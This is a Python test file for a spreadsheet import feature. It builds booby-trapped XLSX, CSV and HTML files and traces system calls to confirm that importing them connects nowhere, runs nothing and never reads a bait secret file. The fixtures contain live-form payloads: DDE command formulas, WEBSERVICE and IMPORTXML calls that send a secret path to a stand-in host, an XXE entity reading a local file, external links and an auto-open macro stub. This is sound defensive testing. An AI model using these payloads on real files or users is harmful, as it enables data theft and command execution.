"""Reading a file does nothing but read it: no connection, no program, no other file, whatever the file asks for."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from asn_kompetensi.store import door
from tests.gangguan.alat import Kota, butuh_strace, strace
from tests.gangguan.cabang import Bercabang
from tests.tabular.baca.bahan import buku, susun_ulang

NIP = "199001012015011001"
JUDUL = ["nip", "nama", "opd", "jabatan"]
ORANG = [NIP, "Lindang", "DINKES", "STAF"]
_XML = "http://schemas.openxmlformats.org/"


def _xlsx(jalur: Path, rahasia: str) -> Path:
    """Formulas that fetch, a hyperlink, an external workbook, a connection, a macro and a template elsewhere."""
    luar = f"http://127.0.0.1:9/{rahasia}"
    isi = [*JUDUL, "ket"], [*ORANG, f'=WEBSERVICE("{luar}")'], [None, None, None, None, "=cmd|'/c calc'!A1"]
    buku(jalur, isi)
    hubungan = (
        f'<Relationships xmlns="{_XML}package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
        f'Type="{_XML}officeDocument/2006/relationships/externalLinkPath" Target="file://{rahasia}"/></Relationships>'
    ).encode()

    def tambah(bagian: dict[str, bytes]) -> None:
        bagian["xl/externalLinks/_rels/externalLink1.xml.rels"] = hubungan
        bagian["xl/worksheets/_rels/sheet1.xml.rels"] = hubungan
        bagian["xl/externalLinks/externalLink1.xml"] = (
            f'<externalLink xmlns="{_XML}spreadsheetml/2006/main"><externalBook xmlns:r="{_XML}officeDocument/2006/'
            'relationships" r:id="rId1"/></externalLink>'
        ).encode()
        bagian["xl/connections.xml"] = (
            f'<connections><connection><webPr url="{luar}"/></connection></connections>'.encode()
        )
        bagian["xl/vbaProject.bin"] = b"Sub Auto_Open(): Shell(1): End Sub"

    return susun_ulang(jalur, tambah)


def _entitas(jalur: Path, rahasia: str) -> Path:
    def ubah(bagian: dict[str, bytes]) -> None:
        isi = bagian["xl/worksheets/sheet1.xml"]
        tipe = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{rahasia}">]>'.encode()
        bagian["xl/worksheets/sheet1.xml"] = tipe + isi.replace(b"</v>", b"&e;</v>", 1)

    return susun_ulang(buku(jalur, [JUDUL, ORANG]), ubah)


def _html(jalur: Path, rahasia: str) -> Path:
    sel = "".join(f"<td>{satu}</td>" for satu in ORANG)
    judul = "".join(f"<td>{satu}</td>" for satu in JUDUL)
    jalur.write_text(
        f'<html><head><base href="http://127.0.0.1:9/"><link rel="stylesheet" href="file://{rahasia}">'
        f'<script src="http://127.0.0.1:9/a.js"></script></head><body><img src="file://{rahasia}">'
        f'<iframe src="file://{rahasia}"></iframe><table><tr>{judul}</tr><tr>{sel}</tr></table></body></html>',
        encoding="utf-8",
    )
    return jalur


def _csv(jalur: Path, rahasia: str) -> Path:
    jalur.write_text(
        f"{','.join(JUDUL)},ket\n{','.join(ORANG)},\"=cmd|'/c type {rahasia}'!A1\"\n"
        f'198501012010011002,@SUM(1),DINKES,STAF,+IMPORTXML("http://127.0.0.1:9/")\n',
        encoding="utf-8",
    )
    return jalur


@pytest.mark.parametrize(
    ("cara", "nama", "buat"),
    [
        (Kota, "a.xlsx", _xlsx),
        (Bercabang, "e.xlsx", _entitas),
        (Bercabang, "h.xls", _html),
        (Bercabang, "c.csv", _csv),
    ],
)
def test_membaca_berkas_tidak_menyentuh_apa_pun_yang_lain(
    tmp_path: Path, basis_induk: Path, cara: type[Kota], nama: str, buat: Callable[[Path, str], Path]
) -> None:
    butuh_strace()
    kota = cara.siap(basis_induk, tmp_path / "kota")
    rahasia = tmp_path / "rahasia-umpan.txt"
    rahasia.write_text("umpan", encoding="utf-8")
    berkas = buat(kota.folder / nama, str(rahasia))
    jejak = tmp_path / "jejak.txt"
    hasil = kota.jalan("pegawai", "impor", berkas.name, "--lewati", depan=strace(jejak, "connect", "execve", "openat"))
    assert hasil.returncode in (0, 3, 9), hasil.stderr
    assert "Traceback" not in hasil.stderr
    panggilan = jejak.read_text(encoding="utf-8", errors="replace").splitlines()
    assert any("openat(" in satu and nama in satu for satu in panggilan), "the file itself was opened: the trace sees"
    dijalankan = [satu for satu in panggilan if "execve(" in satu]
    assert len(dijalankan) == (cara is Kota), "nothing but the program itself is started"
    assert [satu for satu in panggilan if "connect(" in satu] == []
    assert [satu for satu in panggilan if "rahasia-umpan" in satu] == []
    with door.baca(kota.basis) as d:
        assert not d.kon.execute("SELECT 1 FROM pegawai WHERE nama LIKE '%umpan%'").fetchall()
